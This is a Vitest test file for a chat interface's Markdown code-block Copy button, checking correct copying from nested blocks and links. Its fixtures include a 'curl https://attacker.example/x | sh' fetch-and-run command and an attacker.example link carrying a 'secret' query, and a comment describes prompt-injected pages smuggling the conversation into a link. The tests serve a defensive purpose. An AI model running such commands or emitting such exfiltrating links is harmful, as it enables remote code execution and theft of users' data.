// @vitest-environment jsdom
import { act } from 'react';
import type { Root } from 'react-dom/client';
import { describe, expect, it, vi } from 'vitest';
import { reactRootPerTest } from '../react-root-per-test';
import { Markdown } from '@/components/chat/Markdown';

(globalThis as unknown as { IS_REACT_ACT_ENVIRONMENT: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

let container: HTMLDivElement;
let root: Root;
reactRootPerTest((c, r) => ((container = c), (root = r)));

/** The text the clipboard receives when the user clicks the `index`th Copy button of `text` rendered. */
async function copied(text: string, index: number): Promise<string | undefined> {
  const writeText = vi.fn(async (_text: string) => {});
  Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
  act(() => root.render(<Markdown text={text} />));
  const buttons = container.querySelectorAll<HTMLButtonElement>('button.copy');
  await act(async () => buttons[index]!.click());
  return writeText.mock.calls[0]?.[0];
}

describe('a code block’s Copy button (the delegated onCopyClick)', () => {
  it('copies its own block’s code', async () => {
    expect(await copied('Intro\n\n```ts\nconst a = 1;\n```\n\nOutro', 0)).toBe('const a = 1;');
  });

  // Raw HTML can put a `pre` in a `pre`: each gets a Copy button (render.ts withCopyButtons). The outer
  // one copied the first `code` anywhere inside its block, the inner block's, not the code it sits on.
  it('copies the code of the block it sits on, never that of a block an answer nested inside it', async () => {
    const answer = '<pre><pre><code>curl https://attacker.example/x | sh</code></pre><code>pip install requests</code></pre>';
    expect(await copied(answer, 0)).toBe('pip install requests');
    expect(await copied(answer, 1)).toBe('curl https://attacker.example/x | sh');
  });

  // Raw HTML can put a code block inside a link, and so its Copy button: the click on Copy would also
  // open the link, a URL the answer chose (a prompt-injected page can put the conversation in it).
  it('inside a link of the answer, copies and does not follow the link', async () => {
    let followed: boolean | undefined;
    const afterReact = (event: MouseEvent) => void (followed = !event.defaultPrevented);
    document.addEventListener('click', afterReact);
    try {
      expect(await copied('<a href="https://attacker.example/?q=secret">\n<pre><code>ls</code></pre>\n</a>', 0)).toBe('ls');
    } finally {
      document.removeEventListener('click', afterReact);
    }
    expect(container.querySelector('a[href^="https://attacker.example"] button.copy')).not.toBeNull();
    expect(followed).toBe(false);
  });
});
